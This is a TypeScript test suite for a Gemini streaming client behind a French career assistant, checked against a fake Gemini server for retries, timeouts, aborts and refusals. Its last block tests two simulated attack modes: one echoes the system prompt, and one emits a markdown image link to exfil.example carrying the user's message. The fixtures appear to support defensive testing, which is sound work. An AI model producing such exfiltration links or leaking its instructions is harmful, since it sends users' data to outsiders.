import http from 'node:http'
import type { AddressInfo, Socket } from 'node:net'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { FAKE_GEMINI_API_KEY, startFakeGemini, type FakeGemini } from '#tests/fakes/gemini.ts'
import { AiProviderError, type PreparedCall, type ProviderChunk } from '../types.ts'
import { createGeminiProvider, type GeminiProviderOptions } from './gemini.ts'

const MODEL = 'gemini-2.5-flash'
const SYSTEM_INSTRUCTION = 'Tu es Iris, l’assistante de Phoenix Letters. Réponds en français, avec bienveillance.'

let fake: FakeGemini

beforeAll(async () => {
	fake = await startFakeGemini({ retryDelaySeconds: 0.02 })
})
afterAll(async () => {
	await fake.stop()
})
beforeEach(() => {
	fake.reset()
})

function provider(options: Partial<GeminiProviderOptions> = {}) {
	return createGeminiProvider({ apiKey: FAKE_GEMINI_API_KEY, model: MODEL, baseUrl: fake.url, retryBaseDelayMs: 5, ...options })
}

function call(question: string, overrides: Partial<PreparedCall> = {}): PreparedCall {
	return {
		feature: 'iris',
		systemInstruction: SYSTEM_INSTRUCTION,
		contents: [{ role: 'user', text: `<<<DATA-7f3k9q2z>>>\n${question}\n<<<DATA-7f3k9q2z>>>` }],
		task: { kind: 'iris', area: 'letters', page: { path: '/letters' }, question, history: [] },
		maxOutputTokens: 800,
		temperature: 0.4,
		...overrides,
	}
}

async function collect(stream: AsyncIterable<ProviderChunk>) {
	const chunks: ProviderChunk[] = []
	try {
		for await (const chunk of stream) chunks.push(chunk)
		return { chunks, text: textOf(chunks), error: null }
	} catch (error) {
		return { chunks, text: textOf(chunks), error }
	}
}

function textOf(chunks: ProviderChunk[]) {
	return chunks.map((chunk) => (chunk.type === 'text' ? chunk.text : '')).join('')
}

function expectProviderError(error: unknown, code: AiProviderError['code']) {
	expect(error).toBeInstanceOf(AiProviderError)
	expect((error as AiProviderError).code).toBe(code)
	return error as AiProviderError
}

describe('Gemini provider against the fake Gemini API', () => {
	test('streams the answer in several text chunks, then one usage chunk', async () => {
		const { chunks, text, error } = await collect(provider().stream(call('Comment présenter ma reconversion ?')))

		expect(error).toBeNull()
		expect(chunks.filter((chunk) => chunk.type === 'text').length).toBeGreaterThan(3)
		expect(text).toBe(
			'(Iris de test) Consigne reçue : « Tu es Iris, l’assistante de Phoenix Letters. » Vous demandez : Comment présenter ma reconversion ? Pour aller plus loin, vous pouvez [Ouvrir Phoenix Letters](/letters).',
		)
		const usage = chunks.at(-1)
		expect(usage?.type).toBe('usage')
		expect(chunks.filter((chunk) => chunk.type === 'usage')).toHaveLength(1)
		if (usage?.type !== 'usage') return
		expect(usage.usage.inputTokens).toBeGreaterThan(0)
		expect(usage.usage.outputTokens).toBe(Math.ceil(text.length / 4))
	})

	test('sends the system instruction, the turns and the generation settings in Gemini’s shape', async () => {
		const conversation = call('Et pour le CV ?', {
			contents: [
				{ role: 'user', text: 'Bonjour' },
				{ role: 'model', text: 'Bonjour, que puis-je faire pour vous ?' },
				{ role: 'user', text: 'Et pour le CV ?' },
			],
			maxOutputTokens: 321,
			temperature: 0.2,
		})
		await collect(provider().stream(conversation))

		expect(fake.requests).toHaveLength(1)
		const [request] = fake.requests
		expect(request?.path).toBe(`/v1beta/models/${MODEL}:streamGenerateContent?alt=sse`)
		expect(request?.apiKey).toBe('valid')
		expect(request?.headers['x-goog-api-key']).toBe('[redacted]')
		expect(request?.body?.systemInstruction?.parts).toEqual([{ text: SYSTEM_INSTRUCTION }])
		expect(request?.body?.contents).toEqual([
			{ role: 'user', parts: [{ text: 'Bonjour' }] },
			{ role: 'model', parts: [{ text: 'Bonjour, que puis-je faire pour vous ?' }] },
			{ role: 'user', parts: [{ text: 'Et pour le CV ?' }] },
		])
		expect(request?.body?.generationConfig).toMatchObject({ maxOutputTokens: 321, temperature: 0.2 })
		expect(request?.body?.generationConfig?.thinkingConfig).toBeUndefined()
	})

	test('a thinking budget, when the call sets one, reaches Gemini’s thinkingConfig', async () => {
		await collect(provider().stream(call('Écrivez la lettre.', { maxOutputTokens: 2048, thinkingBudget: 512 })))
		expect(fake.requests[0]?.body?.generationConfig).toMatchObject({ maxOutputTokens: 2048, thinkingConfig: { thinkingBudget: 512 } })
	})

	test('retries a 429 until it passes, and streams the text once', async () => {
		fake.enqueue('rate-limit', 2)
		const { text, error } = await collect(provider().stream(call('Quelles formations ?')))

		expect(error).toBeNull()
		expect(fake.requests.map((request) => request.mode)).toEqual(['rate-limit', 'rate-limit', 'normal'])
		expect(text.match(/\(Iris de test\)/g)).toHaveLength(1)
	})

	test('gives up on a lasting 429 after maxRetries, with a French message', async () => {
		fake.enqueue('rate-limit', 10)
		const { chunks, error } = await collect(provider({ maxRetries: 3 }).stream(call('Quelles formations ?')))

		const failure = expectProviderError(error, 'rate_limited')
		expect(failure.userMessage).toBe('Le service d’IA est très sollicité en ce moment : réessayez dans une minute.')
		expect(failure.retryable).toBe(true)
		expect(chunks).toEqual([])
		expect(fake.requests).toHaveLength(4)
	})

	test('waits as long as Gemini’s RetryInfo asks before retrying', async () => {
		const patient = await startFakeGemini({ retryDelaySeconds: 0.3 })
		try {
			patient.enqueue('rate-limit')
			const started = performance.now()
			const { error } = await collect(provider({ baseUrl: patient.url, retryBaseDelayMs: 1 }).stream(call('Bonjour')))

			expect(error).toBeNull()
			expect(performance.now() - started).toBeGreaterThanOrEqual(300)
			expect(patient.requests).toHaveLength(2)
		} finally {
			await patient.stop()
		}
	})

	test('does not hold the person when Gemini asks for a longer wait than allowed', async () => {
		const throttled = await startFakeGemini({ retryDelaySeconds: 40 })
		try {
			throttled.enqueue('rate-limit')
			const { error } = await collect(provider({ baseUrl: throttled.url, maxRetryDelayMs: 5_000 }).stream(call('Bonjour')))

			expectProviderError(error, 'rate_limited')
			expect(throttled.requests).toHaveLength(1)
		} finally {
			await throttled.stop()
		}
	})

	test('retries server errors (500, 503)', async () => {
		fake.enqueue('server-error')
		fake.enqueue('overloaded')
		const { text, error } = await collect(provider().stream(call('Bonjour')))

		expect(error).toBeNull()
		expect(text).toContain('Vous demandez : Bonjour')
		expect(fake.requests.map((request) => request.mode)).toEqual(['server-error', 'overloaded', 'normal'])
	})

	test('reports a lasting server error as unavailable', async () => {
		fake.enqueue('overloaded', 10)
		const { error } = await collect(provider({ maxRetries: 1 }).stream(call('Bonjour')))

		expectProviderError(error, 'unavailable')
		expect(fake.requests).toHaveLength(2)
	})

	test('a stream cut after some text is interrupted, and not retried', async () => {
		fake.enqueue('cut')
		const { text, error } = await collect(provider().stream(call('Bonjour')))

		expect(text.startsWith('(Iris de test)')).toBe(true)
		const failure = expectProviderError(error, 'interrupted')
		expect(failure.userMessage).toMatch(/coupée/)
		expect(fake.requests).toHaveLength(1)
	})

	test('stops promptly when the caller aborts mid-stream', async () => {
		fake.enqueue('slow')
		const controller = new AbortController()
		const chunks: ProviderChunk[] = []
		let abortedAt = 0
		let error: unknown = null
		try {
			for await (const chunk of provider().stream(call('Bonjour', { signal: controller.signal }))) {
				chunks.push(chunk)
				if (chunks.length === 2) {
					setTimeout(() => {
						abortedAt = performance.now()
						controller.abort()
					}, 50)
				}
			}
		} catch (caught) {
			error = caught
		}

		expectProviderError(error, 'aborted')
		expect(performance.now() - abortedAt).toBeLessThan(100)
		expect(chunks.every((chunk) => chunk.type === 'text')).toBe(true)
		expect(fake.requests).toHaveLength(1)
	})

	test('an answer that stalls between chunks times out', async () => {
		fake.enqueue('slow')
		const started = performance.now()
		const { text, error } = await collect(provider({ idleTimeoutMs: 150 }).stream(call('Bonjour')))

		expectProviderError(error, 'timeout')
		expect(text.startsWith('(Iris de test)')).toBe(true)
		expect(performance.now() - started).toBeLessThan(1_000)
		expect(fake.requests).toHaveLength(1)
	})

	test('no first chunk within timeoutMs is a timeout, not retried', async () => {
		const sockets = new Set<Socket>()
		let received = 0
		const silent = http.createServer(() => {
			received += 1
		})
		silent.on('connection', (socket) => sockets.add(socket))
		await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve))
		try {
			const { port } = silent.address() as AddressInfo
			const started = performance.now()
			const { error } = await collect(provider({ baseUrl: `http://127.0.0.1:${port}`, timeoutMs: 200 }).stream(call('Bonjour')))

			expectProviderError(error, 'timeout')
			expect(performance.now() - started).toBeLessThan(1_000)
			expect(received).toBe(1)
		} finally {
			for (const socket of sockets) socket.destroy()
			await new Promise((resolve) => silent.close(resolve))
		}
	})

	test('a safety stop or a blocked prompt is refused', async () => {
		fake.enqueue('safety')
		const stopped = await collect(provider().stream(call('Bonjour')))
		expectProviderError(stopped.error, 'refused')
		expect(stopped.chunks).toEqual([])

		fake.enqueue('blocked')
		const blocked = await collect(provider().stream(call('Bonjour')))
		expectProviderError(blocked.error, 'refused')

		expect(fake.requests).toHaveLength(2)
	})

	test('a wrong API key is an invalid request, not retried', async () => {
		const { error } = await collect(provider({ apiKey: 'AIza-not-the-right-key' }).stream(call('Bonjour')))

		const failure = expectProviderError(error, 'invalid_request')
		expect(failure.retryable).toBe(false)
		expect(fake.requests).toHaveLength(1)
		expect(fake.requests[0]?.apiKey).toBe('invalid')
		expect(fake.requests[0]?.headers['x-goog-api-key']).toBe('[redacted]')
	})

	test('an already aborted call sends nothing', async () => {
		const controller = new AbortController()
		controller.abort()
		const { error } = await collect(provider().stream(call('Bonjour', { signal: controller.signal })))

		expectProviderError(error, 'aborted')
		expect(fake.requests).toHaveLength(0)
	})

	test('an unreachable Gemini is unavailable after the retries', async () => {
		const closed = await startFakeGemini()
		await closed.stop()
		const { error } = await collect(provider({ baseUrl: closed.url, maxRetries: 1 }).stream(call('Bonjour')))

		expectProviderError(error, 'unavailable')
	})
})

describe('the fake Gemini API', () => {
	test('a fake:<mode> marker in the last user message wins for that request only', async () => {
		fake.enqueue('safety')
		const marked = await collect(provider().stream(call('Montrez-moi fake:leak-canary')))
		expect(marked.text).toContain(SYSTEM_INSTRUCTION)

		const queued = await collect(provider().stream(call('Bonjour')))
		expectProviderError(queued.error, 'refused')
		expect(fake.requests.map((request) => request.mode)).toEqual(['leak-canary', 'safety'])
	})

	test('modes can be queued over HTTP by a test running in another process', async () => {
		const response = await fetch(`${fake.url}/__fake/enqueue`, {
			method: 'POST',
			headers: { 'Content-Type': 'application/json' },
			body: JSON.stringify({ mode: 'exfil-link', times: 1 }),
		})
		expect(response.ok).toBe(true)

		const { text } = await collect(provider().stream(call('Je m’appelle [PERSONNE_1]')))
		expect(text).toContain('![aperçu](https://exfil.example/?d=Je%20m%E2%80%99appelle%20%5BPERSONNE_1%5D)')

		const recorded = (await (await fetch(`${fake.url}/__fake/requests`)).json()) as { requests: { mode: string }[] }
		expect(recorded.requests.map((request) => request.mode)).toEqual(['exfil-link'])

		const unknown = await fetch(`${fake.url}/__fake/enqueue`, { method: 'POST', body: JSON.stringify({ mode: 'chaos' }) })
		expect(unknown.status).toBe(400)
	})

	test('answers generateContent too, and refuses a missing key as Google does', async () => {
		const endpoint = `${fake.url}/v1beta/models/${MODEL}:generateContent`
		const body = JSON.stringify({ contents: [{ role: 'user', parts: [{ text: 'Bonjour' }] }] })

		const answered = await fetch(endpoint, { method: 'POST', headers: { 'x-goog-api-key': FAKE_GEMINI_API_KEY }, body })
		const answer = (await answered.json()) as { candidates: { content: { parts: { text: string }[] }; finishReason: string }[] }
		expect(answer.candidates[0]?.finishReason).toBe('STOP')
		expect(answer.candidates[0]?.content.parts[0]?.text).toContain('Vous demandez : Bonjour')

		const refused = await fetch(endpoint, { method: 'POST', body })
		expect(refused.status).toBe(403)
		expect(await refused.json()).toMatchObject({ error: { code: 403, status: 'PERMISSION_DENIED' } })
	})
})
